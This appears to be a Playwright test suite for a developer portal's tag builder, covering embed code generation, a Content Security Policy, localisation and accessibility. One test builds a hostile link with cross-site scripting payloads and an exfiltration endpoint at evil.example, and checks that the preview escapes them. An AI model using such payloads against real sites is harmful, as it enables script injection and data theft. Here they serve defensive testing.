import type { Page, Request } from '@playwright/test'
import { hostSite } from '../support/host-site'
import { consoleErrorsOf } from './support/console-errors'
import { findings } from './support/findings'
import { developer, expect, test } from './support/portal'

const preview = (page: Page) => page.frameLocator('iframe')
/** Text of a piece of code, as its button copies it. */
const codeOf = (page: Page, name: string) => page.getByRole('region', { name, exact: true }).innerText()
const events = (page: Page) => page.getByRole('log', { name: 'Events' })

/** A bare page of another origin, with the code and under the policy that the builder has printed. */
async function pasted(page: Page, portal: string) {
  const policy = await codeOf(page, 'Content Security Policy')
  const code = await codeOf(page, 'Code for HTML')
  expect(policy).toContain(`script-src ${portal};`)
  const site = await hostSite({
    contentSecurityPolicy: policy,
    files: { '/index.html': `<!doctype html><html lang="en"><title>Host</title><body>${code}</body></html>` },
  })
  return site
}

test('a sign-in form is chosen, seen, pasted into a page of another origin, and works there', async ({
  page,
  portal,
}) => {
  const consoleErrors = await consoleErrorsOf(page, /status of 401/)
  await page.goto(`${portal.url}/builder`)
  await expect(page).toHaveTitle('Tag builder | Port Example Developer Portal')
  await expect(preview(page).getByRole('textbox', { name: 'Email' })).toBeVisible()

  await page.getByLabel('login-button-text').fill('Ins Hafenbüro')
  await expect(preview(page).getByRole('button', { name: 'Ins Hafenbüro' })).toBeVisible()
  await page.getByLabel('show-register-link').check()
  await page.getByRole('combobox', { name: 'Language' }).selectOption('Deutsch')
  await expect(preview(page).getByRole('textbox', { name: 'E-Mail' })).toBeVisible()
  await expect(preview(page).getByText('Konto erstellen')).toBeVisible()
  await page.getByRole('combobox', { name: 'Theme' }).selectOption('Light')
  await page.getByText('Attributes of every tag').click()
  await page.getByRole('combobox', { name: 'user-entity' }).selectOption('developer')

  // Yellow cannot carry white; dark green can.
  await page.getByRole('combobox', { name: 'Add a color, size or font' }).selectOption('accent')
  await page.getByRole('textbox', { name: '--portal-accent', exact: true }).fill('#ffee33')
  const contrast = page.getByRole('region', { name: 'Contrast' })
  await expect(contrast.getByRole('row', { name: 'on-accent on accent Light' })).toContainText(
    '1.1 : 1, needs 4.5',
  )
  await expect(contrast.getByRole('row', { name: 'link on surface Light' })).toContainText('needs 4.5')
  await page.getByRole('textbox', { name: '--portal-accent', exact: true }).fill('#0a4a2f')
  await expect(contrast.getByRole('row', { name: 'on-accent on accent Light' })).not.toContainText('needs')
  await page.getByRole('textbox', { name: '--portal-accent', exact: true }).fill('#0a4a2f; color: red')
  await expect(page.getByText('Enter a color of CSS', { exact: false })).toBeVisible()

  const signInThere = async (form: ReturnType<typeof preview> | Page) => {
    await form.getByRole('textbox', { name: 'E-Mail' }).fill(developer.email)
    await form.getByLabel('Passwort', { exact: true }).fill(developer.password)
    const button = form.getByRole('button', { name: 'Ins Hafenbüro' })
    await expect(button).toHaveCSS('background-color', 'rgb(10, 74, 47)')
    await button.click()
    await expect(form.getByText(developer.email)).toBeVisible()
  }
  await signInThere(preview(page))
  await expect(events(page)).toContainText('login-success')
  await page.context().clearCookies()

  const site = await pasted(page, portal.url)
  await page.getByRole('textbox', { name: 'Origin of your page' }).fill(site.url)
  await expect(page.getByText(`accepts signed-in requests from ${site.url}`)).toBeVisible()
  const address = page.url()
  expect(address).toContain('login-button-text=Ins+Hafenb')

  await page.goto(site.url)
  await signInThere(page)
  expect(consoleErrors).toEqual([])

  await page.goto(address)
  await expect(page.getByLabel('login-button-text')).toHaveValue('Ins Hafenbüro')
  await expect(page.getByRole('textbox', { name: '--portal-accent', exact: true })).toHaveValue('#0a4a2f')
  await site.close()
})

test('a catalog is pasted into a page of another origin, and the preview stays where it is when a product is opened', async ({
  page,
  publicPortal: portal,
}) => {
  const consoleErrors = await consoleErrorsOf(page)
  await page.goto(`${portal.url}/builder`)
  await page.getByRole('combobox', { name: 'Element' }).selectOption('portal-catalog')
  await page.getByRole('combobox', { name: 'view' }).selectOption('table')
  const product = preview(page)
    .getByRole('link', { name: /Coast Forecast/ })
    .first()
  await expect(product).toBeVisible()
  await expect(events(page)).toContainText('catalog-search')
  await product.click()
  await expect(events(page)).toContainText('navigate')
  await expect(product).toBeVisible()

  await page.getByRole('textbox', { name: 'Origin of your page' }).fill('https://www.example.com')
  await expect(
    page.getByText('does not accept signed-in requests from https://www.example.com'),
  ).toBeVisible()
  expect(await codeOf(page, 'ALLOWED_ORIGINS')).toBe('ALLOWED_ORIGINS=https://www.example.com')

  const site = await pasted(page, portal.url)
  await page.goto(site.url)
  await expect(page.getByRole('table')).toBeVisible()
  await expect(page.getByRole('link', { name: /Coast Forecast/ }).first()).toBeVisible()
  expect(consoleErrors).toEqual([])
  await site.close()
})

test('the code for every host is shown and copied', async ({ page, portal, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await page.goto(`${portal.url}/builder?element=portal-login&show-register-link=`)
  const host = page.getByRole('group', { name: 'Where the tag goes' })
  const source = page.getByRole('group', { name: 'Source of the tags' })
  const expectCode = async (name: string, file: string, expected: string) => {
    await host.getByRole('button', { name, exact: true }).click()
    await page.getByRole('button', { name: `Copy ${file}`, exact: true }).click()
    const copied = await page.evaluate(() => navigator.clipboard.readText())
    expect(copied).toContain(expected)
    expect(await codeOf(page, `Code for ${file}`)).toBe(copied)
  }
  for (const [name, file, expected] of [
    ['HTML', 'HTML', '<portal-login show-register-link></portal-login>'],
    ['React', 'PortalLogin.jsx', 'onlogin-success={(event) => console.log(event.detail)}'],
    ['Vue', 'PortalLogin.vue', '@login-success="report"'],
    ['Angular', 'portal-login.html', '(login-success)="report($event)"'],
    ['WordPress', 'Block', '<!-- wp:portal-elements/portal-login {"show-register-link":true} /-->'],
    ['WordPress', 'Shortcode', '[portal-login show-register-link]'],
  ] as const)
    await expectCode(name, file, expected)
  await host.getByRole('button', { name: 'HTML', exact: true }).click()
  await source.getByRole('button', { name: 'npm' }).click()
  for (const [name, file, expected] of [
    ['HTML', 'Command', 'npm install portal-elements react react-dom'],
    ['HTML', 'main.js', "import 'portal-elements/portal-login'"],
    ['HTML', 'HTML', '<portal-login show-register-link></portal-login>'],
    ['React', 'Login.tsx', '<PortalLogin showRegisterLink onLoginSuccess'],
    ['Vue', 'main.js', `configure({ apiBaseUrl: '${portal.url}', userEntity: 'developer' })`],
    ['Angular', 'main.ts', "import 'portal-elements/portal-login'"],
    // The plugin has the address of the portal, so nothing is left to choose.
    ['WordPress', 'Shortcode', '[portal-login show-register-link]'],
  ] as const)
    await expectCode(name, file, expected)
  await expect(source).toHaveCount(0)
  await page.getByRole('button', { name: 'Copy link to this configuration' }).click()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
    `${portal.url}/builder?element=portal-login&show-register-link=&host=wordpress&source=npm`,
  )
})

test('a hostile link shows its values as text, sends nothing elsewhere, and does not leave the frame', async ({
  page,
  portal,
}) => {
  const requested: string[] = []
  const record = (request: Request) => {
    // What the policy refuses is reported as a failed request, although nothing was sent.
    if (request.failure()?.errorText !== 'csp') requested.push(new URL(request.url()).origin)
  }
  page.on('requestfinished', record)
  page.on('requestfailed', record)
  page.on('dialog', (dialog) => {
    requested.push(`dialog: ${dialog.message()}`)
    dialog.dismiss().catch(() => undefined)
  })
  const script = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
  const query = new URLSearchParams({
    element: 'portal-register',
    'user-entity': 'developer',
    'instruction-text': script,
    'register-button-text': script,
    'register-request-endpoint': 'https://evil.example/collect',
    'privacy-href': 'javascript:alert(3)',
    css: '& { background: url(https://evil.example/css) } } body { display: none }',
    'api-base-url': 'https://evil.example',
    onmouseover: 'alert(4)',
  })
  await page.goto(`${portal.url}/builder?${query}`)
  await expect(page.getByText('Left out, because the link has no valid value')).toContainText(
    'api-base-url, onmouseover',
  )
  await expect(page.getByText('The preview leaves register-request-endpoint out')).toContainText(
    'https://evil.example',
  )
  const form = preview(page)
  await expect(form.getByText(script).first()).toBeVisible()
  await form.getByRole('textbox', { name: 'Email' }).fill('mara@example.com')
  await expect(events(page)).toContainText('https://evil.example/css (img-src)')
  // The code has it, for those who want it, and so has the policy for it.
  expect(await codeOf(page, 'Code for HTML')).toContain(
    'register-request-endpoint="https://evil.example/collect"',
  )
  expect(await codeOf(page, 'Content Security Policy')).toContain('https://evil.example')
  expect(await codeOf(page, 'Code for HTML')).not.toContain('<img')
  expect([...new Set(requested)]).toEqual([portal.url])

  // Alone in a window the preview would be whatever the link says.
  await page.goto(`${portal.url}/builder/preview?${query}`)
  await expect(page.getByRole('heading', { name: 'Tag builder' })).toBeVisible()
})

test('a reference of another origin is in the code and its policy, and not in the preview', async ({
  page,
  portal,
}) => {
  const requested: string[] = []
  page.on('request', (request) => requested.push(request.url()))
  await page.goto(`${portal.url}/builder?element=portal-spec&spec-url=https://specs.example/api.json`)
  await expect(page.getByText('The preview leaves spec-url out')).toBeVisible()
  const policy = await codeOf(page, 'Content Security Policy')
  expect(policy).toContain('https://specs.example;')
  expect(policy).toContain("worker-src 'self' blob:")
  expect(requested.filter((url) => url.startsWith('https://specs'))).toEqual([])
})

test('what cannot be loaded says so, and is loaded again', async ({ page, portal }) => {
  await page.route('**/builder/preview?*', (route) => route.fulfill({ status: 503, body: 'busy' }))
  await page.route('**/builder/policy?*', (route) => route.fulfill({ status: 503, body: 'busy' }))
  await page.goto(`${portal.url}/builder`)
  await expect(page.getByText('The preview could not be loaded.')).toBeVisible()
  const retries = page.getByRole('button', { name: 'Try again' })
  await expect(retries).toHaveCount(2)
  // The code needs neither.
  await expect(page.getByRole('region', { name: 'Code for HTML' })).toBeVisible()
  await page.unrouteAll()
  await retries.first().click()
  await expect(preview(page).getByRole('textbox', { name: 'Email' })).toBeVisible()
  await retries.click()
  await expect(page.getByRole('region', { name: 'Content Security Policy' })).toBeVisible()
})

test('the builder speaks the languages of the portal, and the documentation in it stays English', async ({
  browser,
  portal,
}) => {
  for (const [locale, title] of [
    ['ca', 'Creador d’etiquetes'],
    ['de', 'Tag-Baukasten'],
    ['es', 'Creador de etiquetas'],
    ['fr', 'Créateur de balises'],
  ]) {
    const context = await browser.newContext({ locale })
    const page = await context.newPage()
    await page.goto(`${portal.url}/builder`)
    await expect(page.getByRole('heading', { name: title, level: 1 })).toBeVisible()
    await expect(page.locator('[lang=en]', { hasText: 'Sentence above the form.' })).toBeVisible()
    await context.close()
  }
})

for (const { colorScheme, width } of [
  { colorScheme: 'light', width: 1280 },
  { colorScheme: 'dark', width: 320 },
] as const) {
  test(`the builder has no axe finding and does not scroll sideways, ${colorScheme}, ${width} px`, async ({
    page,
    portal,
  }) => {
    await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
    await page.setViewportSize({ width, height: 800 })
    const query = 'element=portal-login&--portal-accent=yellow&page=https://www.example.com&nothing=x'
    await page.goto(`${portal.url}/builder?${query}`)
    await expect(preview(page).getByRole('textbox', { name: 'Email' })).toBeVisible()
    await expect(page.getByRole('region', { name: 'ALLOWED_ORIGINS' })).toBeVisible()
    await page.getByText('Attributes of every tag').click()
    expect(await findings(page)).toEqual([])
    expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(
      0,
    )
  })
}
